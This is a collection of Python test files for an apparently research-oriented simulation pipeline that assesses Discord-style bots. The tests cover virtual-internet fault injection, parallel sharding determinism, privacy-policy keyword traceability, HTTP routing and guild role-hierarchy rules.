    schedule.bind(VirtualClock())
    now = _open_time(schedule, FaultKind.CAPTCHA_SURGE, "guard.sim")
    challenge = schedule.intercept(_request("https://guard.sim/x"), now)
    assert challenge is not None and challenge.status == 403
    assert 'id="captcha-challenge"' in challenge.body

    # Extract the challenge and solve the arithmetic prompt by hand.
    import re

    challenge_id = re.search(r'data-challenge-id="([^"]+)"', challenge.body).group(1)
    prompt = re.search(r"<p class='prompt'>([^<]+)</p>", challenge.body).group(1)
    a, symbol, b = re.search(r"What is (\d+) ([+*-]) (\d+)\?", prompt).groups()
    answer = {"+": int(a) + int(b), "-": int(a) - int(b), "*": int(a) * int(b)}[symbol]
    solved = schedule.intercept(
        _request(f"https://guard.sim/x?captcha_id={challenge_id}&captcha_answer={answer}"), now
    )
    assert solved is None  # passed through to the real host
    # Clearance: subsequent requests pass without a wall.
    for _ in range(5):
        assert schedule.intercept(_request("https://guard.sim/x"), now) is None


def test_unbound_schedule_skips_captcha_gate():
    profile = _always("captcha_surge_rate", captcha_intensity=1.0)
    schedule = FaultSchedule(profile, seed=0)  # no bind(): consult-only
    now = _open_time(schedule, FaultKind.CAPTCHA_SURGE, "guard.sim")
    assert schedule.intercept(_request("https://guard.sim/x"), now) is None


def test_mangle_truncates_only_large_200_bodies():
    profile = ChaosProfile(name="t", truncation_rate=1.0)
    schedule = FaultSchedule(profile, seed=0)
    request = _request("https://x.sim/")
    big = Response.html("<html>" + "x" * 200 + "</html>")
    out = schedule.mangle(request, big, 0.0)
    assert len(out.body) < 210 // 2 + 10
    assert schedule.stats.truncated_responses == 1
    # 404s and small bodies pass untouched (pagination end must survive).
    end = Response.text("No more bots", status=404)
    assert schedule.mangle(request, end, 0.0).body == "No more bots"
    small = Response.text("tiny")
    assert schedule.mangle(request, small, 0.0).body == "tiny"


# -- VirtualInternet integration --------------------------------------------


def _internet_with_host(profile: ChaosProfile, seed: int = 0) -> tuple[VirtualInternet, FaultSchedule]:
    internet = VirtualInternet()
    host = VirtualHost("site")
    host.add_route("/", lambda request: Response.html("<html>" + "ok" * 100 + "</html>"))
    internet.register("site.sim", host)
    schedule = internet.install_chaos(FaultSchedule(profile, seed=seed))
    return internet, schedule


def test_internet_outage_window_raises_and_still_advances_clock():
    internet, schedule = _internet_with_host(_always("outage_rate"))
    now = _open_time(schedule, FaultKind.OUTAGE, "site.sim")
    internet.clock.advance(now)
    before = internet.clock.now()
    with pytest.raises(ConnectionFailedError):
        internet.exchange(_request("https://site.sim/"))
    assert internet.clock.now() > before  # failed attempt still costs time


def test_internet_latency_spike_inflates_latency():
    profile = _always("latency_spike_rate", latency_extra=(5.0, 5.0))
    internet, schedule = _internet_with_host(profile)
    now = _open_time(schedule, FaultKind.LATENCY_SPIKE, "site.sim")
    internet.clock.advance(now)
    _, latency = internet.exchange(_request("https://site.sim/"))
    assert latency >= 5.0
    assert schedule.stats.latency_spikes == 1


def test_internet_truncation_mangles_served_body():
    internet, schedule = _internet_with_host(ChaosProfile(name="t", truncation_rate=1.0))
    response, _ = internet.exchange(_request("https://site.sim/"))
    assert response.status == 200
    assert len(response.body) < len("<html>" + "ok" * 100 + "</html>")
    assert schedule.stats.truncated_responses == 1


def test_remove_chaos_restores_clean_exchanges():
    internet, _ = _internet_with_host(ChaosProfile(name="t", truncation_rate=1.0))
    internet.remove_chaos()
    response, _ = internet.exchange(_request("https://site.sim/"))
    assert len(response.body) == len("<html>" + "ok" * 100 + "</html>")


def test_flaky_and_outage_profiles_have_expected_shape():
    assert FLAKY.outage_rate == 0.0 and FLAKY.error_burst_rate > 0
    assert OUTAGE.outage_rate >= 0.5 and OUTAGE.window_duration[0] >= 300.0
