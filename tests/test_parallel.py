"""Process-pool sharding: byte-identical to threads, with real isolation.

The determinism contract is the whole point: moving shard buckets from
threads to worker processes must not change a single byte of the
comparable result JSON — not under chaos, not with adversarial bots, not
with journals enabled, not across a crash/resume that mixes the two
execution modes.
"""

from __future__ import annotations

import json
from dataclasses import replace

import pytest

from repro.core.checkpoint import STAGE_CODE, STAGE_HONEYPOT, STAGE_TRACEABILITY
from repro.core.config import PipelineConfig
from repro.core.crashpoints import ENV_CRASH_AT, ENV_RECORD
from repro.core.parallel import ShardTaskSpec, decode_stage_value, encode_stage_value, run_shard_task
from repro.core.pipeline import AssessmentPipeline
from repro.core.serialize import comparable_result, result_to_dict


def _base_config(**overrides) -> PipelineConfig:
    return PipelineConfig(
        n_bots=90,
        seed=7,
        honeypot_sample_size=10,
        validation_sample_size=8,
        chaos_profile="hostile",
        chaos_seed=1,
        adversarial_bots=2,
        shards=4,
        **overrides,
    )


def _comparable_json(result) -> str:
    return json.dumps(comparable_result(result_to_dict(result)), sort_keys=True, indent=1)


@pytest.fixture(scope="module")
def threaded_golden() -> str:
    return _comparable_json(AssessmentPipeline(config=_base_config(parallel=False)).run())


class TestParallelEquivalence:
    def test_byte_identical_to_threaded(self, threaded_golden):
        parallel = AssessmentPipeline(config=_base_config(parallel=True)).run()
        assert _comparable_json(parallel) == threaded_golden

    def test_journaled_parallel_matches_and_owns_shard_journals(self, threaded_golden, tmp_path):
        config = _base_config(
            parallel=True,
            checkpoint_path=str(tmp_path / "ckpt.json"),
            journal_path=str(tmp_path / "journal.jsonl"),
        )
        pipeline = AssessmentPipeline(config=config)
        result = pipeline.run()
        assert _comparable_json(result) == threaded_golden
        # Worker processes wrote the shard journals; the parent held none.
        for index in range(config.shards):
            assert (tmp_path / f"journal.jsonl.shard{index}").exists()
        assert pipeline._shard_journals == {}
        # ...but their counters still surface through the run metrics.
        assert result.metrics.journal is not None
        assert result.metrics.journal["appended"] > 0

    def test_resume_from_parallel_checkpoint(self, threaded_golden, tmp_path):
        config = _base_config(
            parallel=True,
            checkpoint_path=str(tmp_path / "ckpt.json"),
            journal_path=str(tmp_path / "journal.jsonl"),
        )
        AssessmentPipeline(config=config).run()
        resumed = AssessmentPipeline(config=config).run()
        assert _comparable_json(resumed) == threaded_golden
        assert set(resumed.stage_status.values()) == {"resumed"}


class TestCrashInjectionFallback:
    def test_armed_crashpoint_forces_in_process_shards(self, monkeypatch):
        """Crash injection needs every crashpoint in one process, so an
        armed environment silently falls back to the threaded path."""
        monkeypatch.setenv(ENV_CRASH_AT, "run.before_result:999")
        pipeline = AssessmentPipeline(config=_base_config(parallel=True))
        assert not pipeline._parallel_active()
        result = pipeline.run()
        assert pipeline._parallel_runner is None
        monkeypatch.delenv(ENV_CRASH_AT)
        golden = _comparable_json(AssessmentPipeline(config=_base_config(parallel=False)).run())
        assert _comparable_json(result) == golden

    def test_recording_also_falls_back(self, monkeypatch, tmp_path):
        monkeypatch.setenv(ENV_RECORD, str(tmp_path / "record.log"))
        pipeline = AssessmentPipeline(config=_base_config(parallel=True))
        assert not pipeline._parallel_active()

    def test_single_shard_never_goes_parallel(self):
        pipeline = AssessmentPipeline(
            config=_base_config(parallel=True).scaled(60, honeypot_sample_size=6)
        )
        pipeline.config.shards = 1
        assert not pipeline._parallel_active()


class TestTaskPlumbing:
    def test_stage_value_codecs_round_trip_names(self):
        with pytest.raises(ValueError):
            encode_stage_value("crawl", [])
        with pytest.raises(ValueError):
            decode_stage_value("crawl", [])

    def test_worker_task_runs_standalone(self, tmp_path):
        """One spec, executed in-process the way a pool worker would."""
        from repro.core.journal import capture_world_state
        from repro.core.sharding import partition

        config = replace(
            _base_config(), shards=2, checkpoint_path=None, journal_path=None, parallel=False
        )
        parent = AssessmentPipeline(config=config)
        executor = parent._sharded()
        shard = executor.worlds[0]
        spec = ShardTaskSpec(
            stage=STAGE_HONEYPOT,
            index=0,
            start_time=shard.clock.now(),
            config=config,
            bots=None,
            world_state=capture_world_state(shard.clock, shard.internet, shard.solver, shard.breakers),
            journal_path=str(tmp_path / "wal.jsonl.shard0"),
        )
        payload = run_shard_task(spec)
        assert payload["index"] == 0
        report = decode_stage_value(STAGE_HONEYPOT, payload["value"])
        sample = parent.world.ecosystem.top_voted(config.honeypot_sample_size)
        bucket = partition(sample, config.shards, key=lambda bot: bot.client_id)[0]
        # The worker recomputed the same deterministic bucket: every bot in
        # it surfaces as an outcome (quarantined included) or a skip.
        assert 0 < len(report.outcomes) <= len(bucket)
        assert {outcome.bot_name for outcome in report.outcomes} <= {bot.name for bot in bucket}
        assert payload["virtual_seconds"] > 0
        assert "world" in payload and "faults" in payload and "quarantines" in payload
        assert (tmp_path / "wal.jsonl.shard0").exists()

    @pytest.mark.parametrize("stage", [STAGE_TRACEABILITY, STAGE_CODE, STAGE_HONEYPOT])
    def test_run_shard_bucket_rejects_nothing_it_should_accept(self, stage):
        pipeline = AssessmentPipeline(config=_base_config(parallel=False).scaled(40, honeypot_sample_size=4))
        pipeline.config.shards = 2
        executor = pipeline._sharded()
        shard = executor.worlds[0]
        value = pipeline.run_shard_bucket(stage, shard, [], None)
        assert value is not None

    def test_run_shard_bucket_rejects_unknown_stage(self):
        pipeline = AssessmentPipeline(config=_base_config(parallel=False).scaled(40, honeypot_sample_size=4))
        pipeline.config.shards = 2
        executor = pipeline._sharded()
        with pytest.raises(ValueError):
            pipeline.run_shard_bucket("crawl", executor.worlds[0], [], None)
