"""Tests for keywords, the traceability analyzer, and validation."""

import pytest

from repro.discordsim.permissions import Permission, Permissions
from repro.ecosystem.policies import PolicySpec
from repro.traceability import (
    CATEGORIES,
    ManualReviewValidator,
    TraceabilityAnalyzer,
    TraceabilityClass,
    categories_in_text,
)
from repro.traceability.keywords import keyword_hits, mentions_ecosystem_data


class TestKeywords:
    def test_four_categories(self):
        assert CATEGORIES == ("collect", "use", "retain", "disclose")

    def test_collect_synonyms(self):
        assert categories_in_text("We gather basic diagnostics.") == {"collect"}
        assert categories_in_text("Data is recorded on our side.") == {"collect"}

    def test_use_inflections_only(self):
        assert categories_in_text("We use your data.") == {"use"}
        assert categories_in_text("Data is used for features.") == {"use"}
        # "user" and "usage" must NOT fire the use category.
        assert categories_in_text("Your user id and usage matter to us.") == set()

    def test_retain_synonyms(self):
        assert categories_in_text("Preferences are stored safely.") == {"retain"}
        assert categories_in_text("We remember your settings.") == {"retain"}

    def test_disclose_synonyms(self):
        assert categories_in_text("We never sell or share data.") == {"disclose"}
        assert categories_in_text("We may transfer records... wait, that's two") >= {"disclose"}

    def test_case_insensitive(self):
        assert categories_in_text("WE COLLECT EVERYTHING") == {"collect"}

    def test_empty_text(self):
        assert categories_in_text("") == set()

    def test_keyword_hits_evidence(self):
        hits = keyword_hits("We collect and store data.")
        assert "collect" in hits and "retain" in hits

    def test_ecosystem_terms(self):
        assert mentions_ecosystem_data("We read message content from your guild.")
        assert not mentions_ecosystem_data("We value privacy very much.")


class TestAnalyzerClassification:
    def setup_method(self):
        self.analyzer = TraceabilityAnalyzer()

    def test_complete_requires_all_four(self):
        text = (
            "We collect data. We use it to run the bot. "
            "We retain it for a week. We disclose nothing to third parties."
        )
        classification, found = self.analyzer.classify_text(text)
        assert classification is TraceabilityClass.COMPLETE
        assert found == set(CATEGORIES)

    def test_partial_with_some(self):
        classification, found = self.analyzer.classify_text("We collect data. We store it.")
        assert classification is TraceabilityClass.PARTIAL
        assert found == {"collect", "retain"}

    def test_broken_with_none(self):
        classification, _ = self.analyzer.classify_text("Welcome to our cool bot page!")
        assert classification is TraceabilityClass.BROKEN

    def test_empty_text_broken(self):
        classification, _ = self.analyzer.classify_text("   ")
        assert classification is TraceabilityClass.BROKEN


class TestAnalyzerPerBot:
    def setup_method(self):
        self.analyzer = TraceabilityAnalyzer()

    def _analyze(self, **kwargs):
        defaults = dict(
            bot_name="B",
            permissions=Permissions.of(Permission.VIEW_CHANNEL),
            has_website=True,
            has_policy_link=True,
            policy_page_valid=True,
            policy_text="We collect data.",
        )
        defaults.update(kwargs)
        return self.analyzer.analyze(**defaults)

    def test_no_website_is_broken(self):
        result = self._analyze(has_website=False, has_policy_link=False, policy_page_valid=False)
        assert result.classification is TraceabilityClass.BROKEN
        assert result.is_broken

    def test_dead_policy_link_is_broken(self):
        result = self._analyze(policy_page_valid=False)
        assert result.classification is TraceabilityClass.BROKEN

    def test_valid_partial(self):
        result = self._analyze()
        assert result.classification is TraceabilityClass.PARTIAL
        assert result.categories_found == {"collect"}
        assert result.keyword_evidence["collect"]

    def test_generic_flag(self):
        generic = self._analyze(policy_text="We collect data.")
        assert generic.generic_policy
        tailored = self._analyze(policy_text="We collect message content from your guild.")
        assert not tailored.generic_policy

    def test_undisclosed_data_permissions(self):
        result = self._analyze(
            permissions=Permissions.of(Permission.VIEW_CHANNEL, Permission.CONNECT),
            policy_text="We store things.",  # retain only, no collection disclosure
        )
        assert "message content" in result.undisclosed_data_permissions
        assert "voice metadata" in result.undisclosed_data_permissions

    def test_collection_disclosure_clears_undisclosed(self):
        result = self._analyze(policy_text="We collect message data.")
        assert result.undisclosed_data_permissions == ()


class TestValidation:
    def test_perfect_corpus_validates_clean(self):
        import random

        from repro.ecosystem.policies import render_policy

        rng = random.Random(0)
        policies = []
        for index in range(150):
            categories = frozenset(rng.sample(list(CATEGORIES), rng.choice([1, 2, 3])))
            spec = PolicySpec(present=True, categories=categories, generic=False, tailored=True)
            policies.append((f"bot{index}", spec, render_policy(spec, f"bot{index}", rng)))
        report = ManualReviewValidator(seed=1).validate(policies, sample_size=100)
        assert report.sample_size == 100
        assert report.misclassified == 0
        assert report.accuracy == 1.0

    def test_detects_injected_misclassification(self):
        spec = PolicySpec(present=True, categories=frozenset({"collect"}))
        # Text that actually describes nothing -> predicted broken, expected partial.
        report = ManualReviewValidator().validate([("bot", spec, "hello world")], sample_size=10)
        assert report.misclassified == 1
        assert report.accuracy == 0.0

    def test_skips_absent_policies(self):
        spec = PolicySpec(present=False)
        report = ManualReviewValidator().validate([("bot", spec, "")], sample_size=10)
        assert report.sample_size == 0
        assert report.accuracy == 1.0
