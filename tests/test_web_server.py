"""Tests for virtual host routing and middleware."""

from repro.web.http import Request, Response, Url
from repro.web.server import Route, VirtualHost


def _request(path: str, method: str = "GET") -> Request:
    return Request(method, Url.parse(f"https://h.sim{path}"))


class TestRouteCompile:
    def test_static_match(self):
        route = Route.compile("GET", "/about", lambda request: Response.text("x"))
        assert route.match("GET", "/about") == {}
        assert route.match("GET", "/other") is None

    def test_param_capture(self):
        route = Route.compile("GET", "/bot/{bot_id}", lambda request, bot_id: Response.text(bot_id))
        assert route.match("GET", "/bot/42") == {"bot_id": "42"}

    def test_param_does_not_cross_segments(self):
        route = Route.compile("GET", "/bot/{bot_id}", lambda request, bot_id: Response.text(bot_id))
        assert route.match("GET", "/bot/42/extra") is None

    def test_wildcard_param_crosses_segments(self):
        route = Route.compile("GET", "/raw/{*path}", lambda request, path: Response.text(path))
        assert route.match("GET", "/raw/a/b/c.js") == {"path": "a/b/c.js"}

    def test_method_mismatch(self):
        route = Route.compile("POST", "/x", lambda request: Response.text(""))
        assert route.match("GET", "/x") is None

    def test_multiple_params(self):
        route = Route.compile("GET", "/{owner}/{repo}", lambda request, owner, repo: Response.text(""))
        assert route.match("GET", "/alice/bot") == {"owner": "alice", "repo": "bot"}


class TestDispatch:
    def test_handler_receives_params(self):
        host = VirtualHost()

        @host.route("/bot/{bot_id}")
        def page(request, bot_id):
            return Response.text(f"bot {bot_id}")

        assert host.handle(_request("/bot/7")).body == "bot 7"

    def test_404_for_unknown_path(self):
        host = VirtualHost("store")
        response = host.handle(_request("/missing"))
        assert response.status == 404
        assert "store" in response.body

    def test_first_matching_route_wins(self):
        host = VirtualHost()
        host.add_route("/a", lambda request: Response.text("first"))
        host.add_route("/{anything}", lambda request, anything: Response.text("second"))
        assert host.handle(_request("/a")).body == "first"
        assert host.handle(_request("/b")).body == "second"

    def test_post_route(self):
        host = VirtualHost()
        host.add_route("/submit", lambda request: Response.text(request.body), method="POST")
        request = Request("POST", Url.parse("https://h.sim/submit"), body="payload")
        assert host.handle(request).body == "payload"

    def test_requests_served_counter(self):
        host = VirtualHost()
        host.add_route("/", lambda request: Response.text(""))
        host.handle(_request("/"))
        host.handle(_request("/"))
        assert host.requests_served == 2


class TestMiddleware:
    def test_middleware_can_short_circuit(self):
        host = VirtualHost()
        host.add_route("/", lambda request: Response.text("inner"))
        host.add_middleware(lambda request, next_handler: Response.text("blocked", status=403))
        assert host.handle(_request("/")).status == 403

    def test_middleware_order_first_added_outermost(self):
        calls = []
        host = VirtualHost()
        host.add_route("/", lambda request: Response.text("inner"))

        def outer(request, next_handler):
            calls.append("outer")
            return next_handler(request)

        def inner(request, next_handler):
            calls.append("inner")
            return next_handler(request)

        host.add_middleware(outer)
        host.add_middleware(inner)
        host.handle(_request("/"))
        assert calls == ["outer", "inner"]

    def test_middleware_can_mutate_response(self):
        host = VirtualHost()
        host.add_route("/", lambda request: Response.text("x"))

        def stamp(request, next_handler):
            response = next_handler(request)
            response.headers["X-Stamp"] = "yes"
            return response

        host.add_middleware(stamp)
        assert host.handle(_request("/")).headers["X-Stamp"] == "yes"
