"""Tests for the guild model and the five hierarchy rules (Section 4.1)."""

import pytest

from repro.discordsim.guild import Guild, HierarchyError, PermissionDenied, UnknownEntityError
from repro.discordsim.models import ChannelType
from repro.discordsim.permissions import Permission, PermissionOverwrite, Permissions
from repro.discordsim.snowflake import SnowflakeGenerator


@pytest.fixture
def world(platform):
    owner = platform.create_user("owner", phone_verified=True)
    guild = platform.create_guild(owner, "Test Guild")
    return platform, owner, guild


def _add_user(platform, guild, name):
    user = platform.create_user(name)
    guild.add_member(user)
    return user


def _role(guild, name, *flags, actor=None):
    return guild.create_role(name, Permissions.of(*flags), actor_id=actor)


class TestMembership:
    def test_owner_is_member(self, world):
        platform, owner, guild = world
        assert owner.user_id in guild.members

    def test_everyone_role_at_position_zero(self, world):
        _, _, guild = world
        assert guild.everyone_role.position == 0
        assert guild.everyone_role.name == "@everyone"

    def test_add_member_idempotent(self, world):
        platform, _, guild = world
        user = _add_user(platform, guild, "u")
        assert guild.add_member(user) is guild.members[user.user_id]

    def test_banned_user_cannot_rejoin(self, world):
        platform, owner, guild = world
        target = _add_user(platform, guild, "t")
        guild.ban(owner.user_id, target.user_id)
        with pytest.raises(PermissionDenied):
            guild.add_member(target)

    def test_unknown_member_lookup(self, world):
        _, _, guild = world
        with pytest.raises(UnknownEntityError):
            guild.member(999)


class TestRuleOne_GrantRoles:
    def test_grant_below_own_top_role(self, world):
        platform, owner, guild = world
        moderator = _add_user(platform, guild, "mod")
        low = _role(guild, "low", Permission.SPEAK)
        high = _role(guild, "high", Permission.MANAGE_ROLES)
        guild.assign_role(owner.user_id, moderator.user_id, high.role_id)
        target = _add_user(platform, guild, "target")
        guild.assign_role(moderator.user_id, target.user_id, low.role_id)
        assert low.role_id in guild.member(target.user_id).role_ids

    def test_cannot_grant_role_at_or_above_own(self, world):
        platform, owner, guild = world
        moderator = _add_user(platform, guild, "mod")
        mid = _role(guild, "mid", Permission.MANAGE_ROLES)
        top = _role(guild, "top", Permission.SPEAK)
        guild.assign_role(owner.user_id, moderator.user_id, mid.role_id)
        target = _add_user(platform, guild, "target")
        with pytest.raises(HierarchyError):
            guild.assign_role(moderator.user_id, target.user_id, top.role_id)

    def test_requires_manage_roles(self, world):
        platform, owner, guild = world
        nobody = _add_user(platform, guild, "nobody")
        low = _role(guild, "low", Permission.SPEAK)
        target = _add_user(platform, guild, "target")
        with pytest.raises(PermissionDenied):
            guild.assign_role(nobody.user_id, target.user_id, low.role_id)

    def test_owner_bypasses_hierarchy(self, world):
        platform, owner, guild = world
        top = _role(guild, "top", Permission.SPEAK)
        target = _add_user(platform, guild, "target")
        guild.assign_role(owner.user_id, target.user_id, top.role_id)
        assert top.role_id in guild.member(target.user_id).role_ids


class TestRuleTwo_EditRoles:
    def test_edit_lower_role_with_held_permissions(self, world):
        platform, owner, guild = world
        editor = _add_user(platform, guild, "editor")
        low = _role(guild, "low", Permission.SPEAK)
        high = _role(guild, "high", Permission.MANAGE_ROLES, Permission.KICK_MEMBERS)
        guild.assign_role(owner.user_id, editor.user_id, high.role_id)
        guild.edit_role(editor.user_id, low.role_id, Permissions.of(Permission.KICK_MEMBERS))
        assert guild.role(low.role_id).permissions.has_exactly(Permission.KICK_MEMBERS)

    def test_cannot_grant_permission_actor_lacks(self, world):
        platform, owner, guild = world
        editor = _add_user(platform, guild, "editor")
        low = _role(guild, "low", Permission.SPEAK)
        high = _role(guild, "high", Permission.MANAGE_ROLES)
        guild.assign_role(owner.user_id, editor.user_id, high.role_id)
        with pytest.raises(HierarchyError):
            guild.edit_role(editor.user_id, low.role_id, Permissions.of(Permission.BAN_MEMBERS))

    def test_cannot_edit_higher_role(self, world):
        platform, owner, guild = world
        editor = _add_user(platform, guild, "editor")
        mid = _role(guild, "mid", Permission.MANAGE_ROLES)
        top = _role(guild, "top", Permission.SPEAK)
        guild.assign_role(owner.user_id, editor.user_id, mid.role_id)
        with pytest.raises(HierarchyError):
            guild.edit_role(editor.user_id, top.role_id, Permissions.none())

    def test_admin_actor_can_grant_anything_below(self, world):
        platform, owner, guild = world
        admin = _add_user(platform, guild, "admin")
        low = _role(guild, "low", Permission.SPEAK)
        admin_role = _role(guild, "admin", Permission.ADMINISTRATOR)
        guild.assign_role(owner.user_id, admin.user_id, admin_role.role_id)
        guild.edit_role(admin.user_id, low.role_id, Permissions.of(Permission.BAN_MEMBERS))
        assert guild.role(low.role_id).permissions.has_exactly(Permission.BAN_MEMBERS)


class TestRuleThree_SortRoles:
    def test_move_below_top(self, world):
        platform, owner, guild = world
        mover = _add_user(platform, guild, "mover")
        a = _role(guild, "a", Permission.SPEAK)  # position 1
        b = _role(guild, "b", Permission.SPEAK)  # position 2
        high = _role(guild, "high", Permission.MANAGE_ROLES)  # position 3
        guild.assign_role(owner.user_id, mover.user_id, high.role_id)
        guild.move_role(mover.user_id, b.role_id, 1)
        assert guild.role(b.role_id).position == 1

    def test_cannot_move_role_to_or_above_top(self, world):
        platform, owner, guild = world
        mover = _add_user(platform, guild, "mover")
        a = _role(guild, "a", Permission.SPEAK)
        high = _role(guild, "high", Permission.MANAGE_ROLES)
        guild.assign_role(owner.user_id, mover.user_id, high.role_id)
        with pytest.raises(HierarchyError):
            guild.move_role(mover.user_id, a.role_id, high.position + 1)

    def test_position_zero_reserved(self, world):
        platform, owner, guild = world
        a = _role(guild, "a", Permission.SPEAK)
        with pytest.raises(HierarchyError):
            guild.move_role(owner.user_id, a.role_id, 0)


class TestRuleFour_Moderation:
    def _moderator_and_target(self, platform, owner, guild, *mod_perms):
        moderator = _add_user(platform, guild, "mod")
        role = _role(guild, "mods", *mod_perms)
        guild.assign_role(owner.user_id, moderator.user_id, role.role_id)
        target = _add_user(platform, guild, "target")
        return moderator, target

    def test_kick_lower_target(self, world):
        platform, owner, guild = world
        moderator, target = self._moderator_and_target(platform, owner, guild, Permission.KICK_MEMBERS)
        guild.kick(moderator.user_id, target.user_id)
        assert target.user_id not in guild.members

    def test_cannot_kick_equal_or_higher(self, world):
        platform, owner, guild = world
        moderator, target = self._moderator_and_target(platform, owner, guild, Permission.KICK_MEMBERS)
        peer_role = _role(guild, "peers", Permission.SPEAK)
        guild.move_role(owner.user_id, peer_role.role_id, guild.top_role(moderator.user_id).position + 1)
        guild.assign_role(owner.user_id, target.user_id, peer_role.role_id)
        with pytest.raises(HierarchyError):
            guild.kick(moderator.user_id, target.user_id)

    def test_kick_requires_permission_bit(self, world):
        platform, owner, guild = world
        moderator, target = self._moderator_and_target(platform, owner, guild, Permission.SPEAK)
        with pytest.raises(PermissionDenied):
            guild.kick(moderator.user_id, target.user_id)

    def test_ban_removes_and_records(self, world):
        platform, owner, guild = world
        moderator, target = self._moderator_and_target(platform, owner, guild, Permission.BAN_MEMBERS)
        guild.ban(moderator.user_id, target.user_id, reason="spam")
        assert target.user_id in guild.bans
        assert guild.bans[target.user_id].reason == "spam"

    def test_nobody_can_kick_owner(self, world):
        platform, owner, guild = world
        admin = _add_user(platform, guild, "admin")
        role = _role(guild, "admins", Permission.ADMINISTRATOR)
        guild.assign_role(owner.user_id, admin.user_id, role.role_id)
        with pytest.raises(HierarchyError):
            guild.kick(admin.user_id, owner.user_id)

    def test_nickname_edit_follows_hierarchy(self, world):
        platform, owner, guild = world
        moderator, target = self._moderator_and_target(platform, owner, guild, Permission.MANAGE_NICKNAMES)
        guild.set_nickname(moderator.user_id, target.user_id, "renamed")
        assert guild.member(target.user_id).display_name == "renamed"

    def test_own_nickname_needs_change_nickname(self, world):
        platform, owner, guild = world
        user = _add_user(platform, guild, "u")
        guild.set_nickname(user.user_id, user.user_id, "me")  # default everyone allows it
        assert guild.member(user.user_id).nickname == "me"


class TestRuleFive_PermissionsIgnoreHierarchy:
    def test_low_role_admin_still_has_all_permissions(self, world):
        """Rule v: permission *checks* don't consult positions."""
        platform, owner, guild = world
        user = _add_user(platform, guild, "u")
        low_admin = _role(guild, "lowadmin", Permission.ADMINISTRATOR)
        guild.assign_role(owner.user_id, user.user_id, low_admin.role_id)
        _role(guild, "decoy", Permission.SPEAK)  # higher position, no admin
        assert guild.base_permissions(user.user_id) == Permissions.all()


class TestChannelsAndOverwrites:
    def test_create_channel_requires_permission(self, world):
        platform, owner, guild = world
        user = _add_user(platform, guild, "u")
        with pytest.raises(PermissionDenied):
            guild.create_channel("secret", actor_id=user.user_id)

    def test_channel_overwrite_denies(self, world):
        platform, owner, guild = world
        user = _add_user(platform, guild, "u")
        channel = guild.text_channels()[0]
        guild.set_channel_overwrite(
            owner.user_id,
            channel.channel_id,
            PermissionOverwrite(
                target_id=guild.everyone_role.role_id,
                deny=Permissions.of(Permission.SEND_MESSAGES),
            ),
        )
        assert not guild.permissions_in(user.user_id, channel.channel_id).has(Permission.SEND_MESSAGES)

    def test_member_overwrite_restores(self, world):
        platform, owner, guild = world
        user = _add_user(platform, guild, "u")
        channel = guild.text_channels()[0]
        guild.set_channel_overwrite(
            owner.user_id,
            channel.channel_id,
            PermissionOverwrite(target_id=guild.everyone_role.role_id, deny=Permissions.of(Permission.SEND_MESSAGES)),
        )
        guild.set_channel_overwrite(
            owner.user_id,
            channel.channel_id,
            PermissionOverwrite(target_id=user.user_id, allow=Permissions.of(Permission.SEND_MESSAGES)),
        )
        assert guild.permissions_in(user.user_id, channel.channel_id).has(Permission.SEND_MESSAGES)

    def test_text_channels_filter(self, world):
        _, _, guild = world
        assert all(channel.type is ChannelType.TEXT for channel in guild.text_channels())


class TestAuditLog:
    def test_actions_recorded(self, world):
        platform, owner, guild = world
        _role(guild, "r", Permission.SPEAK)
        actions = [entry.action for entry in guild.audit_log]
        assert "role.create" in actions

    def test_read_requires_view_audit_log(self, world):
        platform, owner, guild = world
        user = _add_user(platform, guild, "u")
        with pytest.raises(PermissionDenied):
            guild.read_audit_log(user.user_id)
        assert guild.read_audit_log(owner.user_id)


class TestUnbanAndRoleDeletion:
    def test_unban_allows_rejoin(self, world):
        platform, owner, guild = world
        target = _add_user(platform, guild, "t")
        guild.ban(owner.user_id, target.user_id)
        guild.unban(owner.user_id, target.user_id)
        guild.add_member(target)  # no PermissionDenied anymore
        assert target.user_id in guild.members

    def test_unban_requires_ban_members(self, world):
        platform, owner, guild = world
        target = _add_user(platform, guild, "t")
        pleb = _add_user(platform, guild, "pleb")
        guild.ban(owner.user_id, target.user_id)
        with pytest.raises(PermissionDenied):
            guild.unban(pleb.user_id, target.user_id)

    def test_unban_unknown_target(self, world):
        platform, owner, guild = world
        with pytest.raises(UnknownEntityError):
            guild.unban(owner.user_id, 424242)

    def test_delete_role_unassigns_members(self, world):
        platform, owner, guild = world
        user = _add_user(platform, guild, "u")
        role = _role(guild, "temp", Permission.SPEAK)
        guild.assign_role(owner.user_id, user.user_id, role.role_id)
        guild.delete_role(owner.user_id, role.role_id)
        assert role.role_id not in guild.roles
        assert role.role_id not in guild.member(user.user_id).role_ids

    def test_delete_everyone_forbidden(self, world):
        platform, owner, guild = world
        with pytest.raises(HierarchyError):
            guild.delete_role(owner.user_id, guild.everyone_role.role_id)

    def test_delete_managed_role_forbidden(self, world):
        platform, owner, guild = world
        managed = guild.create_role("bot-role", Permissions.of(Permission.SPEAK), managed=True)
        with pytest.raises(HierarchyError):
            guild.delete_role(owner.user_id, managed.role_id)

    def test_delete_respects_hierarchy(self, world):
        platform, owner, guild = world
        actor = _add_user(platform, guild, "actor")
        mid = _role(guild, "mid", Permission.MANAGE_ROLES)
        top = _role(guild, "top", Permission.SPEAK)
        guild.assign_role(owner.user_id, actor.user_id, mid.role_id)
        with pytest.raises(HierarchyError):
            guild.delete_role(actor.user_id, top.role_id)

    def test_delete_requires_manage_roles(self, world):
        platform, owner, guild = world
        pleb = _add_user(platform, guild, "pleb")
        role = _role(guild, "temp", Permission.SPEAK)
        with pytest.raises(PermissionDenied):
            guild.delete_role(pleb.user_id, role.role_id)
