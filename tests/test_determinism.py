"""Reproducibility guarantees: identical seeds produce identical results.

A measurement pipeline whose numbers change between runs is useless for
science; these tests pin the end-to-end determinism the virtual clock and
seeded RNGs are supposed to provide.
"""

import json

import pytest

from repro.core.config import PipelineConfig
from repro.core.pipeline import AssessmentPipeline
from repro.core.serialize import result_to_dict


def _run(seed: int):
    config = PipelineConfig(
        n_bots=150,
        seed=seed,
        honeypot_sample_size=20,
    )
    return AssessmentPipeline(config).run()


def strip_wall_times(payload: dict) -> dict:
    """Drop wall-clock fields (the only legitimately nondeterministic ones)."""
    payload.pop("wall_seconds", None)
    for stage in payload.get("metrics", {}).get("stages", {}).values():
        stage.pop("wall_seconds", None)
        for shard in stage.get("shards", []):
            shard.pop("wall_seconds", None)
    return payload


class TestDeterminism:
    def test_same_seed_identical_results(self):
        first = strip_wall_times(result_to_dict(_run(71), include_bots=True))
        second = strip_wall_times(result_to_dict(_run(71), include_bots=True))
        # Wall time legitimately differs; everything measured must not.
